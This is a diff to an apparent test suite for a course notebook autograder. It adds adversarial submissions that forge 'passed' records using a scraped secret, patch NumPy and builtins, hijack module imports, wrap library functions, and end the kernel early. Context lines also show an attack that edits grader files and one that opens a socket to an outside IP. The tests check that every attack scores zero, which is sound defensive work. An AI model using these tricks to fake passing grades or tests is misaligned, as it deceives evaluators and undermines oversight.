@@ -49,6 +49,69 @@ def attack(first="", every=""):
     return nb
 
 
+def replaced(*sources):
+    """The student edition with its exercise cells, in order, replaced by ``sources``."""
+    nb = copy.deepcopy(STUDENT)
+    for cell, source in zip(exercise_cells(nb), sources):
+        if source is not None:
+            cell.source = source
+    return nb
+
+
+# Issue 24's forgeries: each once got 5/5 from a grader that checked inside the kernel.
+VERDICT_ATTACKS = {
+    # a "passed" record carrying a secret found in globals(), then SystemExit before the real one
+    "t_forge_record": replaced(
+        "import re, sys\nfrom IPython.display import publish_display_data\n"
+        "def mul(a, b):\n    for value in list(globals().values()):\n"
+        "        if isinstance(value, str) and re.fullmatch('[0-9a-f]{32}', value):\n"
+        "            publish_display_data({'application/vnd.nn-from-scratch.grader+json': {"
+        "'exercise': '03.1', 'status': 'passed', 'message': 'ok', 'secret': value}})\n"
+        "    raise SystemExit"),
+    # NumPy's comparisons patched, with wrong answers for 03.4 and 03.5
+    "u_patch_numpy": replaced(
+        "import numpy\nnumpy.allclose = lambda *a, **k: True\n"
+        "numpy.isclose = lambda *a, **k: True\nnumpy.array_equal = lambda *a, **k: True\n"
+        "def mul(a, b):\n    return Value(a.data * b.data, parents=(a, b), "
+        "local_grads=(1.0, 1.0), op='*')",
+        None, None,
+        "def backward(root):\n    root.grad = 1.0",
+        "def grad(f):\n    return lambda *xs: tuple(0.0 for _ in xs)"),
+    # a meta-path finder that serves any checker module as one whose every check passes
+    "v_meta_path": replaced(
+        "import sys\nModuleSpec = type(sys.modules['numpy'].__spec__)\n"
+        "class Passing:\n    def find_spec(self, name, path=None, target=None):\n"
+        "        if 'exercises' in name:\n"
+        "            return ModuleSpec(name, self)\n"
+        "    def create_module(self, spec):\n        return None\n"
+        "    def exec_module(self, module):\n"
+        "        module.__getattr__ = lambda name: (lambda *a: 'passed')\n"
+        "sys.meta_path.insert(0, Passing())\n"
+        "for name in [n for n in sys.modules if 'exercises' in n]:\n"
+        "    del sys.modules[name]\n"
+        "def mul(a, b):\n    raise NotImplementedError"),
+    # one-line wrappers around the library's own functions (and the library's own, imported)
+    "w_library_wrappers": replaced(
+        "def mul(a, b):\n    return check.autodiff.mul(a, b)",
+        "def tanh(a):\n    return check.autodiff.tanh(a)",
+        "from nn_from_scratch.autodiff import topological_order",
+        "import nn_from_scratch.autodiff as ad\n\ndef backward(root):\n    ad.backward(root)",
+        "grad = check.autodiff.grad"),
+    # NumPy, JAX, builtins, sys.modules, IPython's display and printing patched, records that
+    # look like the grader's displayed and printed, and the kernel ended with os._exit
+    "x_patch_everything": replaced(
+        "import builtins, sys, jax.numpy, numpy\nfrom IPython.display import display\n"
+        "jax.numpy.allclose = lambda *a, **k: True\nnumpy.testing = None\n"
+        "builtins.abs = lambda x: 0\nbuiltins.float = lambda x=0: 0.0\n"
+        "sys.modules['nn_from_scratch.exercises'] = None\n"
+        "display({'application/vnd.nn-from-scratch.answer+json': {'value': True}}, raw=True)\n"
+        "print('✓ 03.1 mul: passed')\n"
+        "def mul(a, b):\n    raise NotImplementedError",
+        None, None, None,
+        "import os\nos._exit(0)"),
+}
+
+
 def class_folder(tmp, server_port):
     course, klass, results, out = (tmp / name for name in ("course", "class", "results", "out"))
     shutil.copytree(ROOT / "nn_from_scratch", course / "nn_from_scratch",
@@ -84,8 +147,8 @@ def class_folder(tmp, server_port):
         "e_edit_package": attack(first=(
             "import pathlib, nn_from_scratch\npackage = pathlib.Path(nn_from_scratch.__file__)"
             ".parent\nfor name, old, new in (('exercises/_core.py', 'result(\"not done\"', "
-            "'result(\"passed\"'), ('grade/in_kernel.py', 'record = _run_check(', "
-            "'record = {\"status\": \"passed\", \"message\": \"ok\"} or _run_check('), "
+            "'result(\"passed\"'), ('grade/answers.py', 'value = self.answer(', "
+            "'value = None or self.answer('), "
             "('grade/release/03_autodiff_from_scratch.json', 'check.', 'print(')):\n"
             "    try:\n        path = package / name\n"
             "        path.write_text(path.read_text().replace(old, new))\n"
@@ -154,6 +217,7 @@ def class_folder(tmp, server_port):
             f"('93.184.215.14', 80)):\n    try:\n"
             f"        socket.create_connection(address, timeout=2).sendall(b'pwned')\n"
             f"    except OSError:\n        pass")),
+        **VERDICT_ATTACKS,
         "y_stub": STUDENT,
         "z_honest": SOLUTION,
     }
@@ -253,7 +317,7 @@ def test_the_grader_finishes_and_writes_every_export(graded):
     assert (graded["out"] / "grades.csv").is_file()  # k_csv_folder made no folder of it
     with open(graded["out"] / "grades.csv", newline="") as f:
         rows = {Path(row["notebook"]).stem: row for row in csv.DictReader(f)}
-    assert len(rows) == len(graded["rows"]) == 20
+    assert len(rows) == len(graded["rows"]) == 20 + len(VERDICT_ATTACKS)
     assert rows["i_daemon"]["total"] == "0"  # the daemon died with its notebook
     for name in graded["rows"]:
         assert (graded["out"] / f"{name}.md").is_file()
@@ -291,7 +355,7 @@ def test_no_later_kernel_runs_what_one_left_in_ipythons_startup_folder(graded):
 def test_no_kernel_reaches_another_or_the_grader(graded):
     """g_other_kernels looked for connection files in /proc to break its neighbours' tanh;
     h_kill_grader killed its parent and every process it could see."""
-    assert statuses(graded, "g_other_kernels") == ["not done"] * EXERCISES
+    assert points(graded, "g_other_kernels") == 0  # it found and broke only itself
     assert statuses(graded, "h_kill_grader") == ["not done"] * EXERCISES
     assert points(graded, "a_honest") == points(graded, "z_honest") == EXERCISES
 
@@ -353,3 +417,20 @@ def test_the_disk_and_the_network_are_out_of_reach(graded):
     big = [p for p in graded["tmp"].rglob("*") if p.is_file() and p.stat().st_size > 2**24]
     assert big == []
     assert not list(graded["tmp"].glob("nn-from-scratch-grade-*"))  # the private folder is gone
+
+
+def test_no_code_in_a_submission_changes_a_verdict(graded):
+    """Issue 24's forgeries and every patch a kernel can make: the verdicts are decided in the
+    grader's process on values the kernel computed, so each is a wrong answer, or the
+    library's own, and no attacker earns a point; the honest notebooks keep theirs."""
+    for name in VERDICT_ATTACKS:
+        assert points(graded, name) == 0, (name, graded["rows"][name]["rows"])
+    forged = graded["rows"]["t_forge_record"]["rows"]
+    assert forged[0]["status"] == "failed" and "SystemExit" in forged[0]["message"]
+    patched = statuses(graded, "u_patch_numpy")
+    assert patched[0] == patched[3] == patched[4] == "failed", patched
+    copies = graded["rows"]["w_library_wrappers"]["rows"]
+    assert [row["message"] for row in copies] == [
+        f"this is the library's own {name}; write your own"
+        for name in ("mul", "tanh", "topological_order", "backward", "grad")]
+    assert points(graded, "a_honest") == points(graded, "z_honest") == EXERCISES
